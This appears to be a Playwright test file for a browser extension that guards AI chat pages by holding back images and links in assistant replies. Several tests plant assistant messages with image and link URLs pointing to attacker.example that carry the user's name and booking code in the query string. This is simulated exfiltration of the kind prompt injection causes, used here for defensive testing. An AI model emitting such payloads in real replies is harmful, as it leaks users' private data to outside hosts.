import type { Frame } from 'playwright-core';
import type { Browser as ExtensionApis } from 'webextension-polyfill';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { ChromiumBrowser, ChromiumTab } from '../../scripts/drive/chromium';
import { waitUntil } from '../../scripts/drive/guarded-browser';
import { axeViolationsIn } from '../harness/axe';
import { openScreenLab, type ScreenLab } from '../harness/screen-lab';

declare const chrome: ExtensionApis;

const attacker = 'http://attacker.example';
const picture = '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"></svg>';
const page = `<!doctype html><html lang="en"><meta charset="utf-8"><title>A chat</title>
  <main><h1>A chat</h1>
  <div data-message-author-role="user">My booking code is 482913, and my name is Jordan Example.</div>
  <div data-message-author-role="assistant" id="answer">Hello.</div></main>`;

/** Screens of the chat guard, as a person meets them. Clicks here are real ones. */
describe('screens of the chat guard', () => {
  let lab: ScreenLab;
  let browser: ChromiumBrowser;
  let tab: ChromiumTab;

  beforeAll(async () => {
    lab = await openScreenLab(({ host, path }) =>
      path.endsWith('.png')
        ? { type: 'image/svg+xml', body: picture }
        : {
            type: 'text/html',
            body: host.startsWith('chat.') ? page : '<!doctype html><title>Elsewhere</title>',
          },
    );
    ({ browser, tab } = lab);
  });
  afterAll(() => lab.close());
  beforeEach(async () => {
    await lab.change({ chatModes: {}, allowedHosts: [] });
    await lab.visitChat('Jordan');
  });

  const say = (html: string) => lab.say(html);
  const asked = (part: string) => lab.asked(part);
  const settings = () =>
    browser.inExtension(async () => (await chrome.storage.local.get('settings'))['settings'], null);
  const placeholder = async (): Promise<Frame> => {
    const frame = await lab.frameOf('/held.html');
    await frame.waitForSelector('.held-card button:not([disabled])');
    return frame;
  };

  it.each(['light', 'dark'] as const)('put a placeholder in place of a picture (%s)', async (colorScheme) => {
    await tab.page.emulateMedia({ colorScheme });
    await say(
      `<p>Look:</p><img alt="" width="200" height="80" src="${attacker}/p.png?d=${btoa('Jordan Example 482913')}">`,
    );
    const frame = await placeholder();
    expect(await frame.textContent('.held-card')).toContain('Jordan Example 482913');
    expect(await frame.textContent('h1')).toContain('attacker.example');
    expect(await axeViolationsIn(frame)).toEqual([]);
    const readable = await tab.page.evaluate(() => document.documentElement.outerHTML);
    expect(readable).not.toContain('held.html');
  });

  it('let a real click through the placeholder load the picture, and no click of the page', async () => {
    await say(`<img src="${attacker}/clicked.png?d=1"><img src="${attacker}/clicked.png?d=2">`);
    const [frame, other] = await waitUntil(
      async () => tab.page.frames().filter((one) => one.url().includes('/held.html')),
      (frames) => frames.length === 2,
    );
    if (!frame || !other) throw new Error('No placeholders.');
    await frame.waitForSelector('.held-card button:not([disabled])');
    await frame.evaluate(() => document.querySelector<HTMLElement>('.held-card button')?.click());
    // A real click that comes later goes its whole way: so would this one have.
    await other.click('text=Show once');
    await waitUntil(
      async () => asked('clicked.png'),
      (lines) => lines.length > 0,
    );
    expect(asked('clicked.png')).toHaveLength(1);
    await frame.click('text=Show once');
    await waitUntil(
      async () => asked('clicked.png'),
      (lines) => lines.length === 2,
    );
    await waitUntil(
      async () => tab.page.frames().some((one) => one.url().includes('/held.html')),
      (isThere) => !isThere,
    );
  });

  it('take no click while the page covers the placeholder', async () => {
    await say(`<img src="${attacker}/covered.png">`);
    const frame = await placeholder();
    await tab.evaluate(() => {
      const cover = document.createElement('div');
      cover.style.cssText = 'position:fixed;inset:0;z-index:9;pointer-events:none;background:white';
      document.body.append(cover);
    }, null);
    await frame.waitForSelector('.held-card button[disabled]');
  });

  it('show the attempts in the popup, change the mode, and take a permission back', async () => {
    await say(`<img src="${attacker}/listed.png?d=%3Cb%3EJordan+Example%3C%2Fb%3E+482913">`);
    await placeholder();
    const popup = await browser.openPopup(tab.id);
    await popup.resize(360, 800);
    await popup.page.waitForSelector('.chat .card');
    await popup.page.click('.chat .card summary');
    expect(await popup.page.textContent('.chat .card')).toContain('<b>Jordan Example</b> 482913');
    expect(await popup.page.locator('.chat b').count()).toBe(0);
    expect(await axeViolationsIn(popup.page)).toEqual([]);
    expect(await popup.page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
    await popup.page.click('text=Allow attacker.example in this chat');
    await waitUntil(
      async () => asked('listed.png'),
      (lines) => lines.length === 1,
    );
    await popup.page.click('text=No longer allow attacker.example');
    await waitUntil(settings, (now) => JSON.stringify(now).includes('"allowedHosts":[]'));
    await popup.page.selectOption('.chat-mode select', 'strict');
    await waitUntil(settings, (now) => JSON.stringify(now).includes('"le-chat":"strict"'));
    await popup.close();
  });

  it.each(['light', 'dark'] as const)(
    'show where a link leads before it is followed (%s)',
    async (colorScheme) => {
      await tab.page.emulateMedia({ colorScheme });
      await say(`<a id="go" href="${attacker}/bill?for=Jordan+Example+482913#x">bank.example</a>`);
      await tab.click('#go');
      await tab.page.waitForSelector('.leaving-buttons');
      const text = (await tab.page.textContent('.leaving')) ?? '';
      for (const part of ['attacker.example', 'bank.example', 'Jordan Example 482913'])
        expect(text).toContain(part);
      expect(await axeViolationsIn(tab.page)).toEqual([]);
      expect(asked('/bill')).toEqual([]);
      // By keyboard: the first stop is the way back.
      await tab.page.focus('.leaving-buttons .button');
      await tab.press('Enter');
      await tab.page.waitForURL('http://chat.mistral.ai/c/1');
    },
  );

  it('go on without parameters when asked to', async () => {
    await say(`<a id="go" href="${attacker}/bare?for=Jordan+Example+482913">Bill</a>`);
    await tab.click('#go');
    await tab.page.waitForSelector('.leaving-buttons');
    await tab.page.click('text=Go on without parameters');
    await tab.page.waitForURL(`${attacker}/bare`);
  });
});
